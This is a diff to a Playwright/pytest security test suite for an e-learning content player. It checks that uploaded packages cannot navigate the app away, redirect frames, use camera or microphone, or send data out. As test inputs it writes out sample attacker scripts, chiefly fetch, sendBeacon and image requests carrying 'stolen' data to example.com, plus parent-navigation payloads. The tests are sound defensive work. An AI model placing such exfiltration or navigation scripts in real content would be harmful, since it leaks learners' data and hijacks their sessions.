@@ -8,7 +8,7 @@ from collections.abc import Callable
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Page, expect
+from playwright.sync_api import Browser, BrowserContext, Page, Route, expect
 
 from mycelia.delivery.api import launch_item
 from mycelia.delivery.models import Attempt, TrackingEntry
@@ -47,9 +47,31 @@ def learner(site: LiveSite) -> Person:
 
 
 @pytest.fixture
-def attack(site: LiveSite, browser: Browser, learner: Person) -> Attack:
+def stranger() -> list[str]:
+    """What was asked of example.com, which answers everything: only a defence keeps a package from it."""
+    return []
+
+
+@pytest.fixture
+def context(site: LiveSite, browser: Browser, learner: Person, stranger: list[str]) -> BrowserContext:
+    """A browser that would give a page its camera and microphone, and in which example.com answers."""
+
+    def answer(route: Route) -> None:
+        stranger.append(route.request.url)
+        route.fulfill(body="<title>Stranger</title>", headers={"Access-Control-Allow-Origin": "*"})
+
+    context = site.context(browser, learner)
+    context.grant_permissions(["camera", "microphone"])
+    context.route("https://example.com/**", answer)
+    return context
+
+
+@pytest.fixture
+def attack(site: LiveSite, context: BrowserContext, learner: Person) -> Attack:
     def run(script: str, **files: str) -> tuple[Any, Page]:
-        page = site.open_player(browser, make_attempt(make_package(attacker(script, **files)), learner=learner))
+        attempt = make_attempt(make_package(attacker(script, **files)), learner=learner)
+        page = context.new_page()
+        page.goto(f"{site.app}/learn/attempts/{attempt.pk}/")
         result = page.frame_locator("[data-stage] iframe").frame_locator("#content").locator("#result")
         expect(result).to_be_attached(timeout=15_000)
         return json.loads(result.text_content() or "null"), page
@@ -133,16 +155,18 @@ def test_page_of_the_app_cannot_be_read(attack: Attack, target: str) -> None:
         'parent.parent.location.replace("https://example.com/");',
     ],
 )
-def test_page_of_the_app_cannot_be_navigated_away(attack: Attack, script: str) -> None:
+def test_page_of_the_app_cannot_be_navigated_away(attack: Attack, stranger: list[str], script: str) -> None:
     _, page = attack(script)
     page.wait_for_timeout(500)
     assert "/learn/attempts/" in page.url
+    assert stranger == []
 
 
-def test_frame_cannot_be_turned_to_another_site(attack: Attack) -> None:
+def test_frame_cannot_be_turned_to_another_site(attack: Attack, stranger: list[str]) -> None:
     _, page = attack('parent.location = "https://example.com/"; return "went";')
     page.wait_for_timeout(500)
     assert not any("example.com" in frame.url for frame in page.frames)
+    assert stranger == []
 
 
 @pytest.mark.parametrize(
@@ -165,12 +189,27 @@ def test_service_worker_cannot_be_registered(attack: Attack) -> None:
 @pytest.mark.parametrize("device", ["{video: true}", "{audio: true}"])
 def test_devices_cannot_be_used(attack: Attack, device: str) -> None:
     result, _ = attack(f'await navigator.mediaDevices.getUserMedia({device}); return "recording";')
-    assert was_refused(result)
+    assert result == "refused: NotAllowedError"
 
 
-def test_other_sites_cannot_be_told_anything_by_request(attack: Attack) -> None:
-    result, _ = attack('return (await fetch("https://example.com/?stolen=1", {mode: "no-cors"})).type;')
+@pytest.mark.parametrize(
+    "script",
+    [
+        'return (await fetch("https://example.com/?stolen=1", {mode: "no-cors"})).type;',
+        'return navigator.sendBeacon("https://example.com/", "stolen") ? "refused: perhaps" : "refused: at once";',
+        """return new Promise((resolve) => {
+             const image = new Image();
+             image.onload = () => resolve("shown"); image.onerror = () => resolve("refused: image");
+             image.src = "https://example.com/stolen.gif";
+           });""",
+    ],
+    ids=["fetch", "beacon", "image"],
+)
+def test_other_sites_cannot_be_told_anything_by_request(attack: Attack, stranger: list[str], script: str) -> None:
+    result, page = attack(script)
+    page.wait_for_timeout(300)
     assert was_refused(result)
+    assert stranger == []
 
 
 def test_window_of_the_app_opened_by_a_package_stays_closed_to_it(attack: Attack) -> None:
